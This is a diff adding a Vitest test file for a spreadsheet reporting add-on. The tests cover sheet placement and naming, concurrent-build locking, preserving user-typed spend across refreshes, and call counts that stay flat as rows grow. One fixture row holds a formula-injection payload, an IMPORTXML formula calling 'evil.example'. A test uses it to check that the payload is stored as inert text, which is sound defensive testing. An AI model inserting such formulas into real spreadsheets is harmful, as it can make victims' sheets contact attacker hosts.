@@ -1,0 +1,268 @@
+/**
+ * Building and refreshing reports in a shared spreadsheet, with a small stand-in report model so
+ * these tests are about the sheets, not the analytics: where sheets go and what they are named,
+ * that nothing but the add-on's own sheets is written, that typed spend survives a refresh, that a
+ * second concurrent build is told to wait, and that the work does not grow with the rows.
+ */
+import { afterEach, describe, expect, it } from "vitest";
+import { buildReportSheets, type MakeReport, refreshAllReports } from "../../src/addon/reports";
+import { checkSettings, type ReportSettings } from "../../src/addon/settings";
+import { readDay, readId, Where } from "../../src/core/cells";
+import type { ReportCell, ReportSheet } from "../../src/core/report/model";
+import { totalCalls } from "../helpers/fake";
+import { installGlobals } from "../helpers/services";
+import { addonServices, FakeLocks, FakeSpreadsheet, type Value } from "../helpers/sheets";
+
+let uninstall: (() => void) | undefined;
+afterEach(() => {
+  uninstall?.();
+  uninstall = undefined;
+});
+
+/** Customers per first-purchase month, and a spend column keyed by that month. */
+const standIn: MakeReport = ({ rows, spend, settings, context }) => {
+  const first = new Map<string, number>();
+  const where = new Where("test", "rows");
+  for (const row of rows.slice(1)) {
+    const id = readId(row[settings.mapping.customerId], where);
+    const day = readDay(row[settings.mapping.date], context, where);
+    const month = new Date(day * 86_400_000).toISOString().slice(0, 7);
+    const cohort = Date.parse(`${month}-01`);
+    first.set(id, Math.min(first.get(id) ?? cohort, cohort));
+  }
+  const sizes = new Map<number, number>();
+  for (const cohort of first.values()) sizes.set(cohort, (sizes.get(cohort) ?? 0) + 1);
+  const cohorts = [...sizes.keys()].sort((a, b) => a - b);
+  const spendBy = new Map((spend ?? []).slice(1).map((r) => [String(r[0]), Number(r[1])]));
+  const segment = settings.mapping.segment === undefined ? "" : String(rows[1][settings.mapping.segment]);
+  const sheet = (key: ReportSheet["key"], name: string, cells: ReportCell[][]): ReportSheet => ({
+    key,
+    name,
+    cells,
+    styles: [],
+    conditionalFormats: [],
+    charts: [],
+    frozenRows: 1,
+    frozenColumns: 1,
+    columnWidths: {},
+  });
+  const ltvCac = sheet("ltv-cac", "LTV:CAC", [
+    ["Cohort", "New customers", "Spend", "CAC"],
+    ...cohorts.map((c, i) => {
+      const iso = new Date(c).toISOString().slice(0, 10);
+      return [
+        new Date(c),
+        sizes.get(c) ?? 0,
+        spendBy.get(iso) ?? null,
+        { formula: `IFERROR(C${i + 2}/B${i + 2},"")`, value: null },
+      ];
+    }),
+  ]);
+  ltvCac.editable = [{ range: { row: 2, column: 3, rows: cohorts.length, columns: 1 }, keyColumn: 1 }];
+  return {
+    title: "Cohort report",
+    settings: {},
+    sheets: [
+      sheet("retention", "Retention", [
+        ["Cohort", "Customers", "First segment"],
+        ...cohorts.map((c) => [new Date(c), sizes.get(c) ?? 0, segment]),
+      ]),
+      ltvCac,
+      sheet("summary", "Summary", [["Customers", first.size]]),
+    ],
+  };
+};
+
+function transactions(n: number, months = 6, firstId = ""): Value[][] {
+  const rows: Value[][] = [["Customer ID", "Order date", "Amount", "Channel"]];
+  for (let i = 0; i < n; i++) {
+    const month = i % months;
+    rows.push([
+      i === 0 && firstId ? firstId : `C${String(i % Math.max(1, Math.floor(n / 2))).padStart(5, "0")}`,
+      new Date(Date.UTC(2024, month, 1 + (i % 27), 5)), // midnight in New York
+      10 + (i % 7),
+      i === 0 ? '=IMPORTXML("http://evil.example/","//a")' : "Paid search",
+    ]);
+  }
+  return rows;
+}
+
+function spreadsheet(rows: Value[][]) {
+  const book = new FakeSpreadsheet({ timeZone: "America/New_York" });
+  const orders = book.addSheet("Orders", rows);
+  const spend = book.addSheet("Spend", [
+    ["Month", "Spend"],
+    ["2024-01-01", 1000],
+    ["2024-02-01", 1200],
+  ]);
+  const notes = book.addSheet("Notes", [["my own notes"]]);
+  return { book, orders, spend, notes };
+}
+
+function settings(orders: { id: number }, rows: number, extra: Partial<ReportSettings> = {}): ReportSettings {
+  return checkSettings({
+    source: { sheetId: orders.id, range: `A1:D${rows}` },
+    mapping: { customerId: 0, date: 1, amount: 2, segment: 3 },
+    period: "month",
+    sheets: ["retention", "ltv-cac", "summary"],
+    ...extra,
+  });
+}
+
+describe("building a report", () => {
+  it("creates its sheets right after the source and writes nothing else", () => {
+    const rows = transactions(100);
+    const { book, spend } = spreadsheet(rows);
+    uninstall = installGlobals(addonServices(book));
+    const outcome = buildReportSheets(
+      settings(book.sheet("Orders"), rows.length, { spend: { sheetId: spend.id, range: "A1:B3" } }),
+      standIn,
+    );
+    expect(book.sheets.map((s) => s.name)).toEqual([
+      "Orders",
+      "Retention",
+      "LTV:CAC",
+      "Summary",
+      "Spend",
+      "Notes",
+    ]);
+    expect(outcome.sheets.map((s) => s.name)).toEqual(["Retention", "LTV:CAC", "Summary"]);
+    expect(book.writtenSheets()).toEqual(["Retention", "LTV:CAC", "Summary"]);
+    const meta = JSON.parse(book.sheet("LTV:CAC").metadata[0].value ?? "");
+    expect(book.sheet("LTV:CAC").metadata[0]).toMatchObject({
+      key: "cohort-ltv-report",
+      visibility: "PROJECT",
+    });
+    expect(meta).toMatchObject({
+      version: 1,
+      key: "ltv-cac",
+      settings: { period: "month" },
+      sourceToEnd: true,
+    });
+    expect(book.sheet("LTV:CAC").value(2, 3)).toBe(1000);
+    expect(book.sheet("LTV:CAC").formula(2, 4)).toBe('=IFERROR(C2/B2,"")');
+  });
+
+  it("lands data text as text: a hostile segment stays a literal string", () => {
+    const rows = transactions(100);
+    const { book } = spreadsheet(rows);
+    uninstall = installGlobals(addonServices(book));
+    buildReportSheets(settings(book.sheet("Orders"), rows.length), standIn);
+    const retention = book.sheet("Retention");
+    expect(retention.value(2, 3)).toBe('=IMPORTXML("http://evil.example/","//a")');
+    expect(retention.formula(2, 3)).toBe("");
+  });
+
+  it("gives a new name when the user already has a sheet of that name, and leaves theirs alone", () => {
+    const rows = transactions(100);
+    const { book } = spreadsheet(rows);
+    book.addSheet("Retention", [["the user's own retention notes"]]);
+    uninstall = installGlobals(addonServices(book));
+    const outcome = buildReportSheets(settings(book.sheet("Orders"), rows.length), standIn);
+    expect(outcome.sheets[0].name).toBe("Retention (2)");
+    expect(book.sheet("Retention").value(1, 1)).toBe("the user's own retention notes");
+    expect(book.sheet("Retention").writes).toEqual([]);
+  });
+
+  it("updates the earlier report when built again from the same table and period", () => {
+    const rows = transactions(100);
+    const { book } = spreadsheet(rows);
+    uninstall = installGlobals(addonServices(book));
+    const first = buildReportSheets(settings(book.sheet("Orders"), rows.length), standIn);
+    const second = buildReportSheets(settings(book.sheet("Orders"), rows.length), standIn);
+    expect(second.updated).toBe(true);
+    expect(second.reportId).toBe(first.reportId);
+    expect(book.sheets).toHaveLength(6);
+    const weekly = buildReportSheets(
+      settings(book.sheet("Orders"), rows.length, { period: "week" }),
+      standIn,
+    );
+    expect(weekly.updated).toBe(false);
+    expect(weekly.sheets[0].name).toBe("Retention (2)");
+  });
+
+  it("refuses to build from one of its own report sheets", () => {
+    const rows = transactions(100);
+    const { book } = spreadsheet(rows);
+    uninstall = installGlobals(addonServices(book));
+    buildReportSheets(settings(book.sheet("Orders"), rows.length), standIn);
+    const retention = book.sheet("Retention");
+    expect(() => buildReportSheets(settings(retention, 3), standIn)).toThrow(/That is a report sheet/);
+  });
+
+  it("tells a second colleague to wait while someone else builds, and writes nothing", () => {
+    const rows = transactions(100);
+    const { book } = spreadsheet(rows);
+    const locks = new FakeLocks();
+    locks.holder = "bob@example.com";
+    uninstall = installGlobals(addonServices(book, { locks, user: "ann@example.com" }));
+    expect(() => buildReportSheets(settings(book.sheet("Orders"), rows.length), standIn)).toThrow(
+      "Someone else is building a report in this spreadsheet right now. Wait a minute, then try again.",
+    );
+    expect(book.writtenSheets()).toEqual([]);
+    locks.holder = undefined;
+    buildReportSheets(settings(book.sheet("Orders"), rows.length), standIn);
+    expect(locks.holder).toBeUndefined();
+  });
+
+  it("makes as many Spreadsheet calls for 100,000 rows as for 100", () => {
+    const count = (n: number) => {
+      const rows = transactions(n);
+      const { book, spend } = spreadsheet(rows);
+      uninstall = installGlobals(addonServices(book));
+      buildReportSheets(
+        settings(book.sheet("Orders"), rows.length, { spend: { sheetId: spend.id, range: "A1:B3" } }),
+        standIn,
+      );
+      uninstall();
+      return totalCalls(book.calls);
+    };
+    const small = count(100);
+    expect(count(100_000)).toBe(small);
+  });
+});
+
+describe("refreshing reports", () => {
+  it("rebuilds from the saved settings, takes new rows, and keeps spend a user typed by cohort", () => {
+    const rows = transactions(100, 3);
+    const { book, orders } = spreadsheet(rows);
+    uninstall = installGlobals(addonServices(book));
+    buildReportSheets(
+      settings(orders, rows.length, { spend: { sheetId: book.sheet("Spend").id, range: "A1:B3" } }),
+      standIn,
+    );
+    const ltvCac = book.sheet("LTV:CAC");
+    expect(ltvCac.value(3, 1)).toBe(45323); // 2024-02-01
+    // A colleague types February's spend over the table's 1200; January keeps the table's value.
+    ltvCac.values.set(3, 3, 1500);
+    // New rows arrive, including an earlier cohort that shifts every row down.
+    orders.load([["Z00001", new Date(Date.UTC(2023, 11, 5, 5)), 20, "Email"]], rows.length + 1);
+    const outcome = refreshAllReports(standIn);
+    expect(outcome.failed).toEqual([]);
+    expect(ltvCac.value(2, 1)).toBe(45261); // 2023-12-01, the new cohort
+    expect(ltvCac.value(4, 1)).toBe(45323);
+    expect(ltvCac.value(4, 3)).toBe(1500);
+    expect(ltvCac.value(3, 3)).toBe(1000);
+    expect(book.writtenSheets().sort()).toEqual(["LTV:CAC", "Retention", "Summary"]);
+    // And again: the typed value is still recognised as typed.
+    refreshAllReports(standIn);
+    expect(ltvCac.value(4, 3)).toBe(1500);
+  });
+
+  it("reports a report whose source sheet was deleted, and refreshes the others", () => {
+    const rows = transactions(100);
+    const { book, orders } = spreadsheet(rows);
+    uninstall = installGlobals(addonServices(book));
+    buildReportSheets(settings(orders, rows.length), standIn);
+    book.sheets = book.sheets.filter((s) => s !== orders);
+    const outcome = refreshAllReports(standIn);
+    expect(outcome.refreshed).toEqual([]);
+    expect(outcome.failed[0].message).toMatch(/The sheet with the transactions was deleted/);
+  });
+
+  it("says so when there is nothing to refresh", () => {
+    const { book } = spreadsheet(transactions(10));
+    uninstall = installGlobals(addonServices(book));
+    expect(() => refreshAllReports(standIn)).toThrow(/no reports to refresh/);
+  });
+});
